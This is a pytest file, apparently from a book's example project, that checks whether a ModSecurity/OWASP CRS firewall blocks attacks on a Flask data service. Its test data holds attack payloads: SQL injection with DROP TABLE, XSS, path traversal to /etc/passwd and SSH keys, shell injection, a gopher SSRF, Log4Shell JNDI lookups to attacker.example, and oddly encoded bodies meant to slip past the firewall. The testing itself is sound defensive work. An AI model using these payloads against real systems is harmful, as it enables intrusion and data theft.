"""ModSecurity with the OWASP Core Rule Set in front of the data service:
attacks are refused with 403, Runnerly's ordinary requests pass, and a body
it cannot read is refused rather than passed on unread."""

import json

import pytest
import requests

from chapter04.dataservice import create_app as create_data_service
from chapter04.monolith.models import db
from chapter07.waf_nginx import NOT_SET_UP, OTHER_SOFTWARE

RUN = {
    "strava_id": 1234,
    "name": "Morning run (10k, easy) - Tarek's",
    "distance": 10012.5,
    "start_date": "2017-05-20T07:12:44Z",
    "elapsed_time": 3120,
    "moving_time": 3060,
    "average_speed": 3.27,
    "max_speed": 4.1,
    "average_heartrate": 151.2,
    "total_elevation_gain": 42.0,
}

# (method, path, JSON body, headers): what Runnerly's dashboard and Strava
# worker send the data service.
ORDINARY = {
    "list users": ("GET", "/users", None, {}),
    "create a user": (
        "POST",
        "/users",
        {"email": "tarek@example.com", "firstname": "Tarek", "lastname": "Ziadé"},
        {},
    ),
    "a user": ("GET", "/users/1", None, {}),
    "add a run": ("POST", "/users/1/runs", RUN, {}),
    "a user's runs": ("GET", "/users/1/runs", None, {}),
    "a run": ("GET", "/runs/1", None, {}),
    "a browser's agent": (
        "GET",
        "/users",
        None,
        {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Firefox/128.0"},
    ),
}

ATTACKS = {
    "SQL injection in the query": ("GET", "/users?email=' OR '1'='1", None, {}),
    "SQL injection, UNION": (
        "GET",
        "/runs/1?order=1 UNION SELECT password FROM user--",
        None,
        {},
    ),
    "SQL injection in a JSON body": (
        "POST",
        "/users",
        {"email": "x@example.com' OR 1=1; DROP TABLE user; --"},
        {},
    ),
    "XSS in the query": (
        "GET",
        "/users?q=<script>alert(document.cookie)</script>",
        None,
        {},
    ),
    "XSS in a JSON body": (
        "POST",
        "/users",
        {"email": "a@example.com", "firstname": "<img src=x onerror=alert(1)>"},
        {},
    ),
    "path traversal": ("GET", "/runs/1?file=../../../../etc/passwd", None, {}),
    "path traversal, encoded": (
        "GET",
        "/runs/1?file=..%2f..%2f.ssh%2fid_rsa",
        None,
        {},
    ),
    "a scanner's user agent": ("GET", "/users", None, {"User-Agent": "sqlmap/1.7.2"}),
    "a shell command": ("GET", "/users?name=;cat /etc/passwd", None, {}),
}


@pytest.fixture
def modsecurity(waf, data_service):
    return waf("modsecurity", data_service.url)


def send(proxy, method, path, body, headers):
    # CRS rule 920350 flags a Host that is an IP address: send a name.
    headers = {"Host": "localhost", **headers}
    return requests.request(
        method, f"{proxy.url}{path}", json=body, headers=headers, timeout=10
    )


def test_ordinary_runnerly_requests_pass(modsecurity):
    for name, request in ORDINARY.items():
        answer = send(modsecurity, *request)
        assert answer.status_code in (200, 201), (name, answer.text)


@pytest.mark.parametrize("request_", ATTACKS.values(), ids=ATTACKS.keys())
def test_an_attack_is_refused(modsecurity, request_):
    answer = send(modsecurity, *request_)
    assert answer.status_code == 403
    assert answer.json() == {"status": 403, "message": "Forbidden."}


def test_a_rule_set_knows_only_the_attacks_it_was_written_for(modsecurity):
    # CRS 3.3.4 predates Log4Shell (December 2021): a JNDI lookup in a header
    # passes. Rules need updates; the service must not rely on them alone.
    log4shell = {"X-Api-Version": "${jndi:ldap://attacker.example/a}"}
    assert send(modsecurity, "GET", "/users", None, log4shell).status_code == 200


# The paranoia level: what each refuses, of attacks and of Runnerly's own
# requests (ORDINARY). The README's table is these tests' outcome.
BEYOND_LEVEL_1 = {
    "template injection in the query": ("GET", "/users?name={{config}}", None, {}),
    "template injection in a JSON body": (
        "POST",
        "/users",
        {"email": "b@example.com", "firstname": "{{config.items()}}"},
        {},
    ),
    "shell backticks": ("GET", "/users?name=`id`", None, {}),
}
NEITHER_LEVEL = {
    "a shell pipe": ("GET", "/users?name=x|id", None, {}),
    "a gopher:// URL": ("GET", "/users?url=gopher://127.0.0.1:6379/_INFO", None, {}),
    "Log4Shell, obfuscated": (
        "GET",
        "/users",
        None,
        {"User-Agent": "${${lower:j}ndi:${lower:l}dap://attacker.example/a}"},
    ),
}


@pytest.fixture(params=[1, 2], ids=["level 1", "level 2"])
def at_level(request, waf, data_service):
    return request.param, waf("modsecurity", data_service.url, paranoia=request.param)


def test_runnerly_s_own_requests_pass_at_either_level(at_level):
    _, proxy = at_level
    for name, request in ORDINARY.items():
        assert send(proxy, *request).status_code in (200, 201), name


def test_level_2_refuses_what_level_1_lets_through(at_level):
    level, proxy = at_level
    for name, request in BEYOND_LEVEL_1.items():
        refused = send(proxy, *request).status_code == 403
        assert refused == (level == 2), name


def test_what_neither_level_refuses(at_level):
    # Runnerly takes no URL and runs no Java: these reach code that ignores
    # them. A service that did would need rules of its own, or a fix.
    _, proxy = at_level
    for name, request in NEITHER_LEVEL.items():
        assert send(proxy, *request).status_code != 403, name


def test_without_the_rules_runnerly_does_not_need_the_same_is_refused(
    waf, data_service
):
    # What the README's benchmark shows a reader may turn off (rules for
    # PHP, Node.js, Java, IIS and six web applications; IP reputation, DoS
    # protection and correlation, not set up): Runnerly's own requests still
    # pass, every attack above is still refused, and so is what only level 2
    # refuses.
    proxy = waf("modsecurity", data_service.url, without=OTHER_SOFTWARE + NOT_SET_UP)
    for name, request in ORDINARY.items():
        assert send(proxy, *request).status_code in (200, 201), name
    for name, request in {**ATTACKS, **BEYOND_LEVEL_1}.items():
        assert send(proxy, *request).status_code == 403, name


def test_without_modsecurity_the_attacks_reach_the_service(waf, live_server):
    # The same requests through plain nginx: the service answers them itself.
    app = create_data_service("testing")
    proxy = waf("plain", live_server(app).url)
    for request in ATTACKS.values():
        assert send(proxy, *request).status_code != 403
    with app.app_context():
        db.engine.dispose()


# A stored XSS, in every form JSON may take: the service (Flask's get_json)
# reads all of them, so the firewall must not let one through unread.
def xss_user(number: int) -> str:
    name = "<script>alert(1)</script>"
    return json.dumps({"email": f"runner{number}@example.com", "firstname": name})


PADDING = "x" * 140_000  # over SecRequestBodyNoFilesLimit (128 KiB)
UNREADABLE = {
    "UTF-8 with a BOM": b"\xef\xbb\xbf" + xss_user(1).encode(),
    "UTF-16 with a BOM": xss_user(2).encode("utf-16"),
    "UTF-16-LE": xss_user(3).encode("utf-16-le"),
    "UTF-16-BE": xss_user(4).encode("utf-16-be"),
    "UTF-32 with a BOM": xss_user(5).encode("utf-32"),
    "UTF-32-BE": xss_user(6).encode("utf-32-be"),
    "over 128 KiB": xss_user(7).replace("}", f', "lastname": "{PADDING}"}}').encode(),
}


def chunks(body: bytes):
    """A generator: requests sends it chunked, with no Content-Length."""
    for start in range(0, len(body), 8192):
        yield body[start : start + 8192]


@pytest.mark.parametrize("chunked", [False, True], ids=["length", "chunked"])
@pytest.mark.parametrize("body", UNREADABLE.values(), ids=UNREADABLE.keys())
def test_a_body_it_cannot_read_is_refused_not_passed(
    modsecurity, data_service, body, chunked
):
    answer = requests.post(
        f"{modsecurity.url}/users",
        data=chunks(body) if chunked else body,
        headers={"Host": "localhost", "Content-Type": "application/json"},
        timeout=10,
    )
    assert answer.status_code in (400, 413), answer.text
    assert answer.json()["status"] == answer.status_code
    # Nothing reached the service: no user was stored.
    assert requests.get(f"{data_service.url}/users", timeout=10).json() == []


def test_the_service_itself_would_store_those_bodies(data_service):
    # Why the refusal matters: without the firewall, each one is stored.
    for body in UNREADABLE.values():
        answer = requests.post(
            f"{data_service.url}/users",
            data=body,
            headers={"Content-Type": "application/json"},
            timeout=10,
        )
        assert answer.status_code == 201, answer.text
